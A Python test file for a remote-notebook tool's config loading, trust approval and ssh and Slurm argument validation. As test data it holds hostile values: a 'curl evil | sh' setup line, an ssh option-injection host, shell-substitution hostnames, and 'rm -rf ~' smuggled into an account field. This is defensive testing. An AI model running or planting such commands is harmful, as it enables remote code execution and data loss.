"""Config: profiles found upward, validated with file and key path in every error."""

import json
from pathlib import Path

import pytest

from remotebook.core.errors import ConfigError, UntrustedError
from remotebook.local import config, trust


def write(folder: Path, text: str) -> Path:
    path = folder / "remotebook.toml"
    path.write_text(text)
    return path


def pins(path: Path) -> dict[str, str]:
    """The approval `remotebook trust` would record for this file as it is now."""
    checked = trust.read_owned(path)
    return {str(checked.real): checked.sha256}


def test_project_file_found_upward_and_wins_over_user_file(tmp_path: Path) -> None:
    user = tmp_path / "user.toml"
    user.write_text('[profiles.gpu]\nhost = "user-gpu"\napp = "notebook"\n')
    project = tmp_path / "proj"
    (project / "sub" / "deeper").mkdir(parents=True)
    write(project, '[profiles.gpu]\nhost = "proj-gpu"\nlocal_port = 9999\n')
    cfg = config.load(project / "sub" / "deeper", user)
    profile = config.resolve(cfg, "gpu")
    assert profile.host == "proj-gpu"
    assert profile.app == "lab"  # the project table replaces the user table whole
    assert profile.local_port == 9999
    assert profile.remote_dir == "~/proj"
    assert cfg.project_dir == project


def test_unknown_target_is_an_ssh_destination_with_defaults(tmp_path: Path) -> None:
    cfg = config.load(tmp_path, tmp_path / "none.toml")
    profile = config.resolve(cfg, "alice@gpu-box")
    assert profile.host == "alice@gpu-box"
    assert profile.remote_dir == f"~/{tmp_path.name}"
    assert profile.app == "lab"


def test_default_and_single_profile(tmp_path: Path) -> None:
    write(tmp_path, '[profiles.only]\nhost = "h"\n')
    assert config.resolve(config.load(tmp_path, tmp_path / "x"), None).name == "only"
    write(tmp_path, 'default = "b"\n[profiles.a]\nhost = "h"\n[profiles.b]\nhost = "hb"\n')
    assert config.resolve(config.load(tmp_path, tmp_path / "x"), None).host == "hb"


def test_no_target_and_no_default_is_a_config_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no target"):
        config.resolve(config.load(tmp_path, tmp_path / "x"), None)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[profiles.a\nhost = 1", r"not valid TOML: .*line 1"),
        ('[profiles.a]\nhots = "x"\n', r"unknown key `profiles\.a\.hots`"),
        ('[profiles.a]\nlocal_port = "80"\n', r"`profiles\.a\.local_port` must be an integer from 1 to 65535"),
        ("[profiles.a]\nlocal_port = 70000\n", r"local_port` must be an integer"),
        ('[profiles.a]\napp = "vscode"\n', r"`profiles\.a\.app` must be one of: lab, notebook"),
        ("[profiles.a]\njupyter_args = [1, 2]\n", r"jupyter_args` must be a list of strings"),
        ("[profiles.a]\nstart_timeout = true\n", r"start_timeout` must be a number"),
        ('colour = "red"\n', r"unknown key `colour`"),
        ('[profiles.a]\nscheduler = "pbs"\n', r"`profiles\.a\.scheduler` must be one of: none, slurm"),
        ('[profiles.a.slurm]\npartitoin = "gpu"\n', r"unknown key `profiles\.a\.slurm\.partitoin`"),
        ("[profiles.a.slurm]\ncpus = 0\n", r"`profiles\.a\.slurm\.cpus` must be an integer from 1"),
        ('[profiles.a.slurm]\nextra_args = "--exclusive"\n', r"`profiles\.a\.slurm\.extra_args` must be a list"),
        ('[profiles.a.slurm]\ntunnel = "magic"\n', r"slurm\.tunnel` must be one of: auto, node-ssh, tcp"),
        ('[profiles.a.slurm]\nqueue_timeout = "soon"\n', r"slurm\.queue_timeout` must be seconds"),
        ('[profiles.a.slurm]\nwarn_before = "-5"\n', r"slurm\.warn_before` must be seconds"),
        ('[profiles.a.slurm]\nallow_tcp = "yes"\n', r"slurm\.allow_tcp` must be true or false"),
        ("[profiles.a.slurm]\ncpus = true\n", r"slurm\.cpus` must be an integer"),
        ('[profiles.a]\nslurm = "gpu"\n', r"`profiles\.a\.slurm` must be a table"),
        ("profiles = 3\n", r"`profiles` must be a table"),
    ],
)
def test_invalid_config_names_file_and_key(tmp_path: Path, text: str, expected: str) -> None:
    path = write(tmp_path, text)
    with pytest.raises(ConfigError, match=expected) as info:
        config.load(tmp_path, tmp_path / "x")
    assert str(path) in str(info.value)


def test_setup_string_or_list_and_host_not_an_option(tmp_path: Path) -> None:
    path = write(
        tmp_path, '[profiles.a]\nhost = "h"\nsetup = "module load cuda"\n[profiles.b]\nhost = "-oProxyCommand=x"\n'
    )
    cfg = config.load(tmp_path, tmp_path / "x", pins(path))
    assert config.resolve(cfg, "a").setup == ("module load cuda",)
    with pytest.raises(ConfigError, match="cannot start with '-'"):
        config.resolve(cfg, "b")


def test_ssh_config_override_beats_profile(tmp_path: Path) -> None:
    path = write(tmp_path, '[profiles.a]\nhost = "h"\nssh_config = "/etc/one"\n')
    cfg = config.load(tmp_path, tmp_path / "x", pins(path))
    assert config.resolve(cfg, "a").ssh_config == "/etc/one"
    assert config.resolve(cfg, "a", "/etc/two").ssh_config == "/etc/two"
    unapproved = config.load(tmp_path, tmp_path / "x")
    with pytest.raises(UntrustedError, match="sets ssh_config"):
        config.resolve(unapproved, "a")
    assert config.resolve(unapproved, "a", "/etc/two").ssh_config == "/etc/two"  # --ssh-config is the user's own


@pytest.mark.parametrize(
    ("table", "approved", "refused"),
    [
        ('setup = ["module load x"]', False, "setup"),
        ('ssh_config = "x"\nsetup = "true"', False, "setup, ssh_config"),
        ('jupyter = "/j"\nvenv = "~/v"\nconda_env = "c"\njupyter_args = ["--x"]', False, "conda_env, jupyter,"),
        ('setup = ["module load x"]', True, ""),
        ('scheduler = "slurm"\n[profiles.a.slurm]\npartition = "gpu"', False, "scheduler, slurm"),
        ('remote_dir = "~/r"\napp = "notebook"\nlocal_port = 9\ntransport = "unix"\nexclude = ["a"]', False, ""),
        ('start_timeout = 5\nidle_timeout = "1h"\npull = ["results/"]\nsetup = []\nvenv = ""', False, ""),
    ],
)
def test_command_keys_need_the_files_approval(tmp_path: Path, table: str, approved: bool, refused: str) -> None:
    path = write(tmp_path, f'[profiles.a]\nhost = "h"\n{table}\n')
    cfg = config.load(tmp_path, tmp_path / "x", pins(path) if approved else {})
    if not refused:
        assert config.resolve(cfg, "a").host == "h"
        return
    with pytest.raises(UntrustedError) as info:
        config.resolve(cfg, "a")
    assert str(info.value).startswith(f"{path} sets {refused}")
    assert str(info.value).endswith("which run commands; it is not approved")
    assert info.value.hint == "review it, then run `remotebook trust`" and info.value.exit_code == 13


def test_only_the_selected_profiles_keys_matter_and_a_change_asks_again(tmp_path: Path) -> None:
    path = write(tmp_path, '[profiles.data]\nhost = "h"\n[profiles.cmd]\nhost = "h"\nsetup = "true"\n')
    approved = pins(path)
    assert config.resolve(config.load(tmp_path, tmp_path / "x"), "data").host == "h"
    assert config.resolve(config.load(tmp_path, tmp_path / "x"), "some-host").host == "some-host"
    assert config.resolve(config.load(tmp_path, tmp_path / "x", approved), "cmd").setup == ("true",)
    path.write_text(path.read_text().replace('"true"', '"curl evil | sh"'))
    with pytest.raises(UntrustedError, match="changed since you approved it") as info:
        config.resolve(config.load(tmp_path, tmp_path / "x", approved), "cmd")
    assert info.value.hint == "review the change, then run `remotebook trust`"


def test_the_user_file_is_trusted_but_must_be_yours(tmp_path: Path) -> None:
    user = tmp_path / "config.toml"
    user.write_text('[profiles.u]\nhost = "h"\nssh_config = "/etc/mine"\nsetup = "module load x"\n')
    project = tmp_path / "proj"
    project.mkdir()
    assert config.resolve(config.load(project, user), "u").ssh_config == "/etc/mine"
    (project / "remotebook.toml").symlink_to(user)  # the user's own file under the project's name
    assert config.resolve(config.load(project, user), "u").setup == ("module load x",)
    user.chmod(0o664)
    with pytest.raises(UntrustedError, match=r"config\.toml is writable by group; remotebook does not read it"):
        config.load(project, user)


def test_a_file_that_is_not_utf8_is_a_config_error(tmp_path: Path) -> None:
    (tmp_path / "remotebook.toml").write_bytes(b'[profiles.a]\nhost = "\xff"\n')
    with pytest.raises(ConfigError, match="not valid TOML"):
        config.load(tmp_path, tmp_path / "x")


@pytest.mark.parametrize(
    ("value", "seconds"),
    [(0, 0), (3600, 3600), ("45", 45), ("90m", 5400), ("2h", 7200), ("1d", 86400), (" 3H ", 10800)],
)
def test_durations(value: int | str, seconds: int) -> None:
    assert config.parse_duration(value) == seconds


@pytest.mark.parametrize("value", [-1, "", "h", "1.5h", "2w", "ten"])
def test_bad_durations(value: int | str) -> None:
    assert config.parse_duration(value) is None


def test_idle_timeout_in_profile(tmp_path: Path) -> None:
    write(tmp_path, '[profiles.a]\nhost = "h"\nidle_timeout = "2h"\n[profiles.b]\nhost = "h"\nidle_timeout = "soon"\n')
    with pytest.raises(ConfigError, match=r"`profiles\.b\.idle_timeout` must be seconds, or a duration"):
        config.load(tmp_path, tmp_path / "x")
    write(tmp_path, '[profiles.a]\nhost = "h"\nidle_timeout = "2h"\n')
    assert config.resolve(config.load(tmp_path, tmp_path / "x"), "a").idle_timeout == 7200


@pytest.mark.parametrize(
    "host", ["a$(touch /tmp/p)", "a;b", "a b", "a`id`", "a'b", 'a"b', "a|b", "a&b", "a\\b", "a\nb"]
)
def test_host_with_shell_characters_is_refused(tmp_path: Path, host: str) -> None:
    # ssh substitutes it for %h in ProxyCommand / Match exec, which a shell runs: data must stay data.
    write(tmp_path, f"[profiles.a]\nhost = {json.dumps(host)}\n")  # a JSON string is a TOML basic string
    with pytest.raises(ConfigError, match="contains a character no ssh destination has"):
        config.resolve(config.load(tmp_path, tmp_path / "x"), "a")
    with pytest.raises(ConfigError, match="contains a character no ssh destination has"):
        config.resolve(config.load(tmp_path, tmp_path / "x"), host)  # a destination on the command line too


@pytest.mark.parametrize("host", ["me@gpu-box", "gpu.example.com", "[::1]", "alias_1", "user%h"])
def test_plain_destinations_are_accepted(tmp_path: Path, host: str) -> None:
    assert config.resolve(config.load(tmp_path, tmp_path / "x"), host).host == host


def test_a_slurm_profile_becomes_sbatch_arguments_each_one_argument(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        '[profiles.a]\nhost = "h"\nscheduler = "slurm"\n[profiles.a.slurm]\npartition = "gpu"\ntime = "2:00:00"\n'
        'gres = "gpu:1"\ncpus = 4\nmem = "16G"\naccount = "proj; rm -rf ~"\nqos = "normal"\nconstraint = "a100"\n'
        'extra_args = ["--exclusive", "--comment=two words"]\nqueue_timeout = "2h"\ntunnel = "tcp"\n'
        'warn_before = "90s"\nallow_tcp = true\n',
    )
    profile = config.resolve(config.load(tmp_path, tmp_path / "x", pins(path)), "a")
    assert profile.scheduler == "slurm"
    assert profile.slurm.sbatch_args() == (
        "--partition=gpu",
        "--time=2:00:00",
        "--gres=gpu:1",
        "--cpus-per-task=4",
        "--mem=16G",
        "--account=proj; rm -rf ~",
        "--qos=normal",
        "--constraint=a100",
        "--exclusive",
        "--comment=two words",
    )
    assert (profile.slurm.queue_timeout, profile.slurm.tunnel, profile.slurm.warn_before) == (7200, "tcp", 90)
    assert profile.slurm.allow_tcp is True
    assert config.resolve(config.load(tmp_path, tmp_path / "x"), "b").slurm.sbatch_args() == ()
